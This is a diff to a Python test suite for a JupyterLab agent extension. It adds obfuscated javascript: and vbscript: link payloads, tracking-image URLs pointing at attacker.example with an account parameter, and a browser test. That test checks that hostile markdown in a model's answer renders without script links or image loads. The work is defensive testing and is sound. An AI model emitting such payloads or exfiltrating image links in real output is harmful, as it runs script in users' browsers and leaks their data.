@@ -129,6 +129,22 @@ LINKS = [
     "| a | b |\n|---|---|\n| [cell](javascript:alert(1)) | x |",
     "`code` [after code](javascript:alert(1))",
     "[`code` text](javascript:alert(1))",
+    "[click](javascript&#x3A;alert(1))",
+    "[click](javascript&colon;alert(1))",
+    "[click](jav\tascript:alert(1))",
+    "[click](  \tjavascript:alert(1))",
+    "[click]( <javascript:alert(1)> )",
+    "[click](javascript\n:alert(1))",
+    "[click](javascript:alert`1`)",
+    "`[x](`javascript:alert(1)`)`",
+    "[x]: javascript:alert(1)\n\n[x]",
+    "[x]: JaVaScRiPt:alert(1)\n[y]: vbscript:z\n\n[x] [y]",
+    "[^1]\n\n[^1]: javascript:alert(1)",
+    "<img src=\"javascript:alert(1)\">",
+    "![x](javascript:alert(1))",
+    "[click](\\javascript:alert(1))",
+    "[click](&#0106;&#0097;vascript:alert(1))",
+    "[click](&amp;#106;avascript:alert(1))",
 ]
 
 IMAGES = [
@@ -146,6 +162,11 @@ IMAGES = [
     "1. ![](https://attacker.example/px)",
     "![](data:image/png;base64,iVBORw0KGgo=)",
     "!\n[not an image](https://example.com)",
+    "![x][y]\n\n[y]: <https://attacker.example/px>",
+    "&#33;[entity bang](https://attacker.example/px)",
+    "![a](https://attacker.example/1) ![b](https://attacker.example/2)",
+    "*![emphasised](https://attacker.example/px)*",
+    "# ![heading](https://attacker.example/px)",
 ]
 
 RAW_HTML = [
@@ -372,3 +393,95 @@ def test_the_card_edit_box_shows_escapes_that_parse_back_to_the_same_arguments(
     shown = request.arguments_json()
     _clean("card edit box", shown)
     assert json.loads(shown) == details
+
+
+# -- in a real browser: JupyterLab renders the answer of a %%mistral_agent cell ------------------
+
+BROWSER_ANSWER = (
+    "Here is your summary \u202eSSAP\u202c.\n\n"
+    "![](https://attacker.example/px?acct=123)\n\n"
+    "[click me](javascript:alert(1)), [ref][r], [data](data:text/html,<b>x</b>) and "
+    "[vb](VBScript:msgbox(1)).\n\n"
+    "Compare `x < y` first.\n\n"
+    "[r]: JAVASCRIPT:alert(2)\n"
+)
+
+_LINKS_JS = """
+(root) => ({
+  hrefs: Array.from(root.querySelectorAll('[href]')).map((e) => e.getAttribute('href')),
+  srcs: Array.from(root.querySelectorAll('[src]')).map((e) => e.getAttribute('src')),
+  images: root.querySelectorAll('img').length,
+  code: Array.from(root.querySelectorAll('code')).map((e) => e.textContent),
+  text: root.innerText,
+})
+"""
+
+
+def _hostile_notebook(path: Path) -> None:
+    import nbformat
+
+    setup = (
+        "import os\n"
+        "from IPython.display import display\n"
+        "from cheq_jupyter.testing import FakeMistral, text\n"
+        f"ANSWER = {BROWSER_ANSWER!r}\n"
+        "fake = FakeMistral([text(ANSWER)]).start()\n"
+        "os.environ['MISTRAL_API_KEY'], os.environ['MISTRAL_SERVER_URL'] = fake.api_key, fake.url\n"
+        "%load_ext cheq_jupyter"
+    )
+    notebook = nbformat.v4.new_notebook(cells=[
+        nbformat.v4.new_code_cell(setup),
+        nbformat.v4.new_code_cell("%%mistral_agent --approver policy --audit ''\nSummarise."),
+        # The same answer shown raw: proves the page would load the image without the fix.
+        nbformat.v4.new_code_cell("display({'text/markdown': ANSWER}, raw=True)"),
+    ], metadata={"kernelspec": {"name": "python3", "display_name": "Python 3 (ipykernel)",
+                                "language": "python"}})
+    nbformat.write(notebook, path)
+
+
+@pytest.mark.browser
+def test_jupyterlab_shows_the_answer_without_dangerous_links_or_image_loads() -> None:
+    import sys
+
+    sys.path.insert(0, str(Path(__file__).resolve().parents[1]))
+    if __import__("os").environ.get("CHEQ_SKIP_BROWSER") == "1":
+        pytest.skip("CHEQ_SKIP_BROWSER=1")
+    pytest.importorskip("playwright")
+    pytest.importorskip("nbformat")
+    from _lab import LabNotebook, LabServer, fresh_dir, launch_chromium, remove
+
+    home = fresh_dir("cheq-hostile-render-")
+    requests: list[str] = []
+    try:
+        (home / "nb").mkdir()
+        _hostile_notebook(home / "nb" / "hostile.ipynb")
+        with LabServer(home / "nb", home=home) as server, \
+                launch_chromium(home / "chromium-profile") as page:
+            page.route(re.compile(r"attacker\.example"),
+                       lambda route: (requests.append(route.request.url), route.abort()))
+            lab = LabNotebook(page, server, home / "shots")
+            with lab.stage("opening the notebook"):
+                lab.open("hostile.ipynb")
+            with lab.stage("running the agent cell"):
+                for index in (0, 1):
+                    lab.run(index)
+                    lab.wait_done(index, timeout=90)
+                    assert lab.errors(index) == [], lab.errors(index)
+                answer = lab.outputs_of_type(1, "text/markdown")
+                answer.wait_for(state="visible", timeout=30_000)
+                seen = answer.evaluate(_LINKS_JS)
+            assert seen["images"] == 0 and seen["srcs"] == [], seen
+            bad = [h for h in seen["hrefs"]
+                   if re.sub(r"[\s\x00-\x1f]", "", h).lower().startswith(BAD_SCHEMES)]
+            assert bad == [], seen
+            assert any("attacker.example" in h for h in seen["hrefs"])  # shown as a link
+            assert "x < y" in seen["code"], seen
+            assert "\u202e" not in seen["text"] and "\\u202e" in seen["text"], seen
+            assert requests == []
+            with lab.stage("the same answer shown raw loads the image (the test can see it)"):
+                with page.expect_request(re.compile(r"attacker\.example/px"), timeout=60_000):
+                    lab.run(2)
+                lab.wait_done(2, timeout=60)
+            assert any("attacker.example/px" in url for url in requests), requests
+    finally:
+        remove(home)
